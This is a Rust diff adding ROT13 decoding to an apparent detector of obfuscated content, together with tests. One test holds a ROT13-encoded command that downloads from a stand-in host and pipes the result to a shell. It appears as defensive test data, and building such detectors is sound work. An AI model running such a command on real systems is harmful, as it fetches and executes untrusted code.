@@ -13,16 +13,20 @@ const MAX_REPLACED: usize = 256;
 /// How much is shown on each side of that.
 const CONTEXT: usize = 1536;
 
+/// What tells of letters that are turned by half the alphabet.
+const TURNED: &[&str] = &["n-za-m", "rot13", "rot_13", "rot-13"];
+
 /// The keywords that tell of another reading, besides those that stand backwards. None is a rule's.
 pub(super) fn keywords(direction: Direction) -> impl Iterator<Item = &'static str> {
     let wild = if direction == Direction::Inbound { wild::CLUES } else { &[] };
-    wild.iter().chain(spelt::CLUES).copied()
+    wild.iter().chain(spelt::CLUES).chain(TURNED).copied()
 }
 
 /// What one look at a text told of.
 #[derive(Default)]
 pub(super) struct Clues {
     backwards: Stretches,
+    turned: Stretches,
     replaced: Vec<(Range<usize>, Vec<u8>)>,
     /// The text before that was looked at for what is replaced.
     looked: usize,
@@ -37,6 +41,8 @@ impl Clues {
             self.replace(keyword, || (wild::program(text, keyword.start), keyword.end));
         } else if is(spelt::CLUES) {
             self.replace(keyword, || spelt::literal(text, keyword));
+        } else if is(TURNED) {
+            self.turned.note_around(text, keyword);
         } else {
             self.backwards.note(text, keyword);
         }
@@ -58,6 +64,10 @@ impl Clues {
     pub(super) fn readings(self, text: &[u8], mut on: impl FnMut(&[u8])) {
         for stretch in self.backwards.stretches {
             let turned: Vec<u8> = text[stretch].iter().rev().copied().collect();
+            on(&turned);
+        }
+        for stretch in self.turned.stretches {
+            let turned: Vec<u8> = text[stretch].iter().copied().map(turned).collect();
             on(&turned);
         }
         if self.replaced.is_empty() {
@@ -87,6 +97,18 @@ impl Stretches {
         self.add(start..end);
     }
 
+    /// The lines around it too: what is turned is often written before.
+    fn note_around(&mut self, text: &[u8], keyword: &Range<usize>) {
+        let floor = keyword.start.saturating_sub(LINE_BEFORE);
+        let cap = text.len().min(keyword.end + LINE_BEFORE);
+        // A line that is cut is left out.
+        let begins = || memchr::memchr(b'\n', &text[floor..keyword.start]).map(|n| floor + n + 1);
+        let ends = || memchr::memrchr(b'\n', &text[keyword.end..cap]).map(|n| keyword.end + n);
+        let start = if floor == 0 { None } else { begins() };
+        let end = if cap == text.len() { None } else { ends() };
+        self.add(start.unwrap_or(floor)..end.unwrap_or(cap));
+    }
+
     fn add(&mut self, lines: Range<usize>) {
         // The lines between, such as a key's, belong to both.
         let full = self.stretches.len() == MAX_STRETCHES;
@@ -98,11 +120,42 @@ impl Stretches {
     }
 }
 
+/// A letter half the alphabet on, and what is none as it is.
+fn turned(b: u8) -> u8 {
+    match b.to_ascii_lowercase() {
+        b'a'..=b'm' => b + 13,
+        b'n'..=b'z' => b - 13,
+        _ => b,
+    }
+}
+
 #[cfg(test)]
 mod tests {
-    use super::keywords;
+    use super::{LINE_BEFORE, MAX_BACKWARDS, Stretches, keywords, turned};
     use crate::flow::detect::rule::RuleSet;
     use posture::Direction;
+
+    #[test]
+    fn letters_are_turned_and_turned_back() {
+        let text = b"phey -f uggcf://K.rknzcyr/0 | FU";
+        let plain: Vec<u8> = text.iter().copied().map(turned).collect();
+        assert_eq!(plain, b"curl -s https://X.example/0 | SH");
+        assert!((0..=u8::MAX).all(|b| turned(turned(b)) == b));
+    }
+
+    #[test]
+    fn whole_lines_around_a_keyword_are_looked_at() {
+        let line = "words of no use\n";
+        let text = [line.repeat(300), "x rot13 y\n".to_owned(), line.repeat(300)].concat();
+        let at = text.find("rot13").unwrap();
+        let mut stretches = Stretches::default();
+        stretches.note_around(text.as_bytes(), &(at..at + 5));
+        let stretch = &text[stretches.stretches[0].clone()];
+        assert!(stretch.starts_with("words") && stretch.ends_with("use") && stretch.len() <= 2 * LINE_BEFORE + 5);
+        stretches.note_around(text.as_bytes(), &(at..at + 5));
+        assert_eq!(stretches.stretches.len(), 1);
+        assert!(stretches.stretches[0].len() <= MAX_BACKWARDS);
+    }
 
     #[test]
     fn no_clue_is_a_rule_s_keyword() {
